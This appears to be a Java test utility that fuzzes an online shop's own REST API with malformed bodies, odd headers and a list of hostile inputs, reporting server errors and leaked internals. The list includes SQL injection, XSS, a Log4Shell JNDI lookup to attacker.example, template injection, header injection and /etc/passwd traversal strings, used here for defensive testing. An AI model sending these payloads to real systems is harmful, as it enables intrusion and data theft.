package com.ecolaura.problems;

import com.ecolaura.testing.ShopClient;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Random and hostile requests to every endpoint: ids, query values, bodies (valid ones mutated,
 * truncated, nested, oversized, not JSON) and headers (validators, content types, cookies,
 * credentials). Seeded, so a failure is replayed by its seed. Writes only touch products and
 * profiles the fuzzer owns.
 */
final class ApiFuzzer {

    record Finding(String request, int status, String body) {}

    record Report(int sent, int serverErrors, int resent, List<Finding> findings) {}

    static final List<String> HOSTILE = List.of(
            "",
            " ",
            "'",
            "\"",
            "' OR '1'='1",
            "1; DROP TABLE product",
            "%",
            "_",
            "\\",
            "<script>alert(1)</script>",
            "${jndi:ldap://attacker.example/a}",
            "#{7*7}",
            "{{7*7}}",
            "\u0000",
            "\r\nX-Injected: 1",
            "ü漢字🙂",
            "-1",
            "0",
            "1e309",
            "NaN",
            "-0",
            "99999999999999999999999",
            "9223372036854775807",
            "null",
            "[]",
            "{}",
            "../../etc/passwd",
            "%2e%2e%2f",
            "a".repeat(5000),
            "1.5",
            "0x10",
            "+1",
            " 42 ",
            "42abc",
            "true");

    private static final List<String> CATEGORIES = List.of("kitchen", "fashion", "garden", "moon", "");
    private static final List<String> HEADERS = List.of(
            "If-None-Match", "If-Match", "Accept", "Accept-Encoding", "Cookie", "Authorization", "Accept-Language");

    private final ShopClient shop;
    private final Random random;
    private final List<Long> ownProducts;
    private final String validProduct;

    ApiFuzzer(ShopClient shop, long seed, List<Long> ownProducts, String validProduct) {
        this.shop = shop;
        this.random = new Random(seed);
        this.ownProducts = ownProducts;
        this.validProduct = validProduct;
    }

    Report run(int requests) {
        var findings = new ArrayList<Finding>();
        int sent = 0;
        int serverErrors = 0;
        int resent = 0;
        while (sent < requests) {
            Request request;
            try {
                request = next();
            } catch (IllegalArgumentException refusedByTheClient) {
                continue; // a header or URI java.net.http will not send: not a request
            }
            ShopClient.Reply reply;
            try {
                reply = shop.send(request.builder());
            } catch (IllegalArgumentException refusedByTheClient) {
                continue;
            } catch (java.io.UncheckedIOException noResponse) {
                // the server closes a connection after answering an oversized request 400, and the client
                // may reuse it for the next one: send that again once, on a new connection
                resent++;
                try {
                    reply = shop.send(request.builder());
                } catch (java.io.UncheckedIOException again) {
                    sent++;
                    findings.add(new Finding(request.description(), -1, again.getMessage()));
                    continue;
                }
            }
            sent++;
            if (reply.status() >= 500) {
                serverErrors++;
                findings.add(new Finding(request.description(), reply.status(), reply.body()));
            } else if (!isPage(reply) && leaks(reply.body(), request.description())) {
                findings.add(new Finding(request.description(), reply.status(), reply.body()));
            }
        }
        return new Report(sent, serverErrors, resent, findings);
    }

    /** The storefront's pages legitimately hold words such as "select"; their errors are checked all the same. */
    private static boolean isPage(ShopClient.Reply reply) {
        return reply.status() < 400 && reply.contentType().startsWith("text/html");
    }

    /** Internals in a body: a stack trace, a class or package name, SQL — unless the request sent it. */
    static boolean leaks(String body, String request) {
        for (String leak : List.of(
                "Exception",
                "\tat ",
                "java.",
                "jakarta.",
                "com.ecolaura",
                "org.hibernate",
                "org.redisson",
                "fish.payara",
                "SQL",
                "select ",
                "insert into",
                ".java:")) {
            if (body.contains(leak) && !request.contains(leak)) {
                return true;
            }
        }
        return false;
    }

    private record Request(HttpRequest.Builder builder, String description) {}

    private Request next() {
        String method;
        String path;
        String body = null;
        switch (random.nextInt(14)) {
            case 0 -> {
                method = "GET";
                path = "api/products/" + id()
                        + (random.nextBoolean()
                                ? "?fields=" + value(List.of("name,price", "stock", "materials,version", value()))
                                : "");
            }
            case 1 -> {
                method = "GET";
                path = "api/products/" + id() + "/sustainability-score";
            }
            case 2 -> {
                method = "GET";
                path = "api/products?category=" + value(CATEGORIES) + "&page=" + value() + "&size=" + value();
            }
            case 3 -> {
                method = "GET";
                path = "api/search?q=" + value() + "&category=" + value(CATEGORIES) + "&minScore=" + value()
                        + "&sort=" + value(List.of("price", "score", "newest", "relevance", "x")) + "&page="
                        + value() + "&size=" + value();
            }
            case 4 -> {
                method = "GET";
                path = "api/products/trending?limit=" + value();
            }
            case 5 -> {
                method = "GET";
                path = "api/profiles/" + value(List.of("user-1", "user-2", "fuzz-1"));
            }
            case 6 -> {
                method = "PUT";
                path = "api/profiles/" + value(List.of("fuzz-1", "fuzz-2"));
                body = mutated("{\"displayName\":\"Fuzz\",\"email\":\"fuzz@example.org\","
                        + "\"preferredCategories\":[\"garden\"],\"minimumEcoScore\":10,\"newsletter\":true}");
            }
            case 7 -> {
                method = "POST";
                path = "api/products";
                body = mutated(validProduct.replace("ECO-FUZZ", "ECO-FUZZ-" + random.nextInt(1_000_000)));
            }
            case 8 -> {
                method = "PUT";
                path = "api/products/" + ownOrHostileId();
                body = mutated(validProduct);
            }
            case 9 -> {
                method = "DELETE";
                path = "api/products/" + hostileOnly();
            }
            case 10 -> {
                method = "POST";
                path = "api/sessions";
                body = mutated("{\"userId\":\"user-3\"}");
            }
            case 11 -> {
                method = random.nextBoolean() ? "GET" : "PUT";
                path = method.equals("GET") ? "api/cart" : "api/cart/items/" + id();
                body = method.equals("PUT") ? mutated("{\"quantity\":1}") : null;
            }
            case 12 -> {
                method = value(List.of("GET", "DELETE", "POST"));
                path = "api/admin/caches/" + value(List.of("products", "search-results", "nope")) + "/entries/"
                        + value();
            }
            default -> {
                method = value(List.of("GET", "PATCH", "OPTIONS", "HEAD", "TRACE"));
                path = value(List.of("api/products/1", "api/search", "api/no-such", "", "index.html", "assets/x.js"));
            }
        }
        var builder = HttpRequest.newBuilder(shop.resolve(path));
        var description = new StringBuilder(method + " " + path);
        builder.method(
                method,
                body == null
                        ? HttpRequest.BodyPublishers.noBody()
                        : HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8));
        if (body != null) {
            String type = random.nextInt(5) == 0
                    ? value(List.of("text/plain", "application/xml", "application/json; charset=ebcdic", "x/y"))
                    : "application/json";
            builder.header("Content-Type", type);
            description.append(" [").append(type).append("] ").append(body);
        }
        for (int i = random.nextInt(3); i > 0; i--) {
            String header = value(HEADERS);
            String headerValue = header.equals("Cookie")
                    ? "ecolaura_session=" + raw()
                    : header.equals("Authorization") ? value(List.of("Basic ", "Bearer ", "Digest ")) + raw() : raw();
            builder.header(header, headerValue);
            description.append(" ").append(header).append(": ").append(headerValue);
        }
        return new Request(builder, description.toString());
    }

    private String id() {
        return random.nextBoolean() ? Long.toString(1 + random.nextInt(2500)) : value();
    }

    private String ownOrHostileId() {
        return random.nextBoolean()
                ? Long.toString(ownProducts.get(random.nextInt(ownProducts.size())))
                : hostileOnly();
    }

    /** Never the id of a product someone else's test relies on. */
    private String hostileOnly() {
        String value = raw();
        // "+1" or " 42 " must never reach a real product, whatever the shop makes of them
        return value.strip().replaceFirst("^[+-]", "").matches("\\d+")
                ? "9" + random.nextInt(1000) + "99999999999"
                : URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    /** A hostile value, URL-encoded so that it reaches the shop as sent. */
    private String value() {
        return URLEncoder.encode(raw(), StandardCharsets.UTF_8);
    }

    private String raw() {
        return random.nextInt(4) == 0 ? Long.toString(random.nextLong()) : value(HOSTILE);
    }

    private <T> T value(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    /** A valid body, left alone a fifth of the time, else broken in one of many ways. */
    private String mutated(String valid) {
        return switch (random.nextInt(10)) {
            case 0, 1 -> valid;
            case 2 -> valid.substring(0, random.nextInt(valid.length()));
            case 3 ->
                valid.replaceFirst("\"[a-zA-Z]+\":", "\"" + value(List.of("colour", "__proto__", "", "id")) + "\":");
            case 4 -> replaceAValue(valid, jsonValue());
            case 5 -> "[".repeat(2000) + "]".repeat(2000);
            case 6 -> "{\"a\":\"" + "x".repeat(2_000_000) + "\"}";
            case 7 -> value(List.of("", "null", "[]", "{}", "true", "\"text\"", "{", "}", "<xml/>"));
            case 8 -> new String(randomBytes(), StandardCharsets.ISO_8859_1);
            default -> replaceAValue(valid, "\"" + raw().replace("\\", "\\\\").replace("\"", "\\\"") + "\"");
        };
    }

    private String replaceAValue(String json, String replacement) {
        var values = java.util.regex.Pattern.compile(":(\"[^\"]*\"|-?[0-9.]+|\\[[^\\]]*\\]|true|false|null)")
                .matcher(json);
        var starts = new ArrayList<int[]>();
        while (values.find()) {
            starts.add(new int[] {values.start(1), values.end(1)});
        }
        var chosen = starts.get(random.nextInt(starts.size()));
        return json.substring(0, chosen[0]) + replacement + json.substring(chosen[1]);
    }

    private String jsonValue() {
        return value(List.of(
                "null",
                "-1",
                "1e400",
                "-1e400",
                "99999999999999999999999999",
                "0.0000000000001",
                "[]",
                "{}",
                "[null]",
                "\"\"",
                "true",
                "[[[[[[[[[[1]]]]]]]]]]",
                "{\"$gt\":\"\"}",
                "\"" + "z".repeat(100_000) + "\""));
    }

    private byte[] randomBytes() {
        byte[] bytes = new byte[1 + random.nextInt(200)];
        random.nextBytes(bytes);
        return bytes;
    }
}
